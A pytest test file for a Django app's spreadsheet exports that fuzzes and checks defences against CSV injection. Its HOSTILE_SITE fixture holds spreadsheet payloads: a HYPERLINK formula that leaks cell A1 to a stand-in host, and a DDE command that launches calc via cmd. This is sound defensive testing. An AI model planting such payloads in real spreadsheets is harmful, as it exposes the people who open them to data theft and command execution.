"""CSV injection: no exported cell starts with what a spreadsheet would run as a formula
(= + - @ tab CR), whatever an officer typed into a name, address or contact."""

import csv
import io

import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from exports.services import Table, write_csv, write_xlsx
from regions.models import Region
from sites.spreadsheet import fileformat as spreadsheet
from sites.spreadsheet.fileformat import neutralise
from tests.factories import RAWA_BUNGA, make_site, point_in

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)
hostile = st.one_of(
    text, st.builds(lambda t, s: t + s, st.sampled_from(TRIGGERS), text)
)  # half of them start with a trigger
cells = st.one_of(hostile, st.integers(), st.floats(allow_nan=False), st.none())

FUZZ = settings(max_examples=80, deadline=None)


def _csv_cells(data: bytes) -> list[str]:
    """The text cells: a number such as a latitude of -6.2 may start with a minus."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    return [c for row in rows for c in row if not _is_number(c)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell


def _xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_inert_xlsx(data: bytes):
    for c in _xlsx_cells(data):
        assert c.data_type != "f", c.value
        if isinstance(c.value, str):
            assert not c.value.startswith(TRIGGERS), c.value


@FUZZ
@given(value=hostile)
def test_neutralised_text_never_starts_a_formula_and_reads_back_the_same(value):
    out = neutralise(value)
    assert not out.startswith(TRIGGERS)
    assert spreadsheet._unneutralise(out) == value


@FUZZ
@given(
    headers=st.lists(hostile, min_size=1, max_size=4),
    rows=st.lists(st.lists(cells, max_size=4), max_size=4),
)
def test_the_csv_writer_leaves_no_formula(headers, rows):
    out = io.BytesIO()
    write_csv(Table(title="t", headers=headers, rows=rows, count=len(rows)), out)
    for cell in _csv_cells(out.getvalue()):
        assert not cell.startswith(TRIGGERS), cell


@settings(max_examples=25, deadline=None)
@given(
    headers=st.lists(hostile, min_size=1, max_size=3),
    rows=st.lists(st.lists(cells, max_size=3), max_size=3),
)
def test_the_xlsx_writer_leaves_no_formula(headers, rows):
    # openpyxl refuses control characters in cells: a writer error, not a formula.
    clean = [[c for c in row if not (isinstance(c, str) and _has_control(c))] for row in rows]
    headers = [h for h in headers if not _has_control(h)] or ["x"]
    out = io.BytesIO()
    write_xlsx(Table(title="t", headers=headers, rows=clean, count=len(clean)), out)
    _assert_inert_xlsx(out.getvalue())


def _has_control(value: str) -> bool:
    return any(ord(ch) < 32 and ch not in "\t\n\r" for ch in value)


HOSTILE_SITE = {
    "name": '=HYPERLINK("http://x/?"&A1,"klik")',
    "address": "\t=cmd|' /C calc'!A0",
    "contact": "\r@SUM(1+1)",
}


@pytest.mark.django_db
def test_the_excel_round_trip_download_is_inert(client, lurah):
    make_site(types=("posyandu",), **HOSTILE_SITE)
    make_site("-Posyandu", types=("posyandu",), address="+62", location=point_in(RAWA_BUNGA, 60))
    client.force_login(lurah)
    response = client.get(reverse("spreadsheet:export"))
    assert response.status_code == 200
    _assert_inert_xlsx(response.content)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_ranking_downloads_are_inert(client, provinsi, fmt):
    Region.objects.filter(code=RAWA_BUNGA).update(name="=1+1 Rawa Bunga")
    Region.objects.filter(code="31.75.03.1001").update(name="@Kampung Melayu")
    client.force_login(provinsi)
    response = client.get(reverse("kaltara:export_rankings", args=[fmt]), {"tingkat": "kelurahan"})
    assert response.status_code == 200
    if fmt == "csv":
        cells = _csv_cells(response.content)
        assert "'=1+1 Rawa Bunga" in cells and "'@Kampung Melayu" in cells
        assert not any(c.startswith(TRIGGERS) for c in cells)
    else:
        _assert_inert_xlsx(response.content)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_background_site_export_is_inert(camat, fmt, settings, tmp_path):
    from exports.queue import export_create
    from exports.services import export_run

    settings.MEDIA_ROOT = tmp_path
    make_site(types=("posyandu",), **HOSTILE_SITE)
    export = export_create(user=camat, kind="sites", fmt=fmt, params={})
    export_run(export.pk)
    export.refresh_from_db()
    data = export.file.read()
    if fmt == "csv":
        cells = _csv_cells(data)
        assert "'" + HOSTILE_SITE["name"] in cells
        assert not any(c.startswith(TRIGGERS) for c in cells)
    else:
        _assert_inert_xlsx(data)
